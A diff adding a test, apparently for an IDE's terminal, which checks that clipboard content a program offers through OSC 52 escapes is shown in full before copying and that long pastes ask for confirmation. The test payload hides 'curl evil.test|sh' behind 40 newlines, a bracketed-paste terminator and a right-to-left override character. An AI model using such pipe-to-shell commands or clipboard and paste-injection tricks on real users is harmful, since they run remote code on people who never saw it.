@@ -178,6 +178,28 @@ def test_a_program_offers_for_the_clipboard_and_rings_and_only_the_person_acts(i
     expect(shell.button("Copy")).to_have_count(0)
 
 
+def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) -> None:
+    hidden = "git status" + "\n" * 40 + "curl evil.test|sh\x1b[201~\u202egpj\n"
+    offered = base64.b64encode(hidden.encode()).decode()
+    shell.type(rf"printf '\033]52;c;{offered}\007'; echo do''ne")
+    expect(shell.screen).to_contain_text("done")
+    whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
+    expect(whole).to_contain_text("curl evil.test|sh␛[201~<202E>gpj")
+    expect(shell.root).to_contain_text("41 lines, 76 characters. 2 control characters will be left out.")
+    whole.evaluate("box => box.scrollTo(0, box.scrollHeight)")
+    assert whole.evaluate("box => box.scrollTop") > 0
+    assert axe.violations(ide.page) == []
+
+    shell.button("Copy").click()
+    expect(shell.button("Copy")).to_have_count(0)
+    assert clipboard(ide) == "git status" + "\n" * 40 + "curl evil.test|sh[201~gpj\n"
+
+    shell.type(r"printf '\033[?2004l'; exec cat")
+    paste(ide, "one" + "\n" * 20 + "evil\n")
+    expect(shell.root).to_contain_text("Paste 21 lines?")
+    expect(whole).to_contain_text("evil")
+
+
 def test_links_show_where_they_lead_and_open_with_ctrl(ide: Ide, shell: Cell) -> None:
     shell.type(
         r"printf 'see https://plain.example/a now\n\033]8;;https://made.example/b\033\\%s\033]8;;\033\\\n' de''ep"
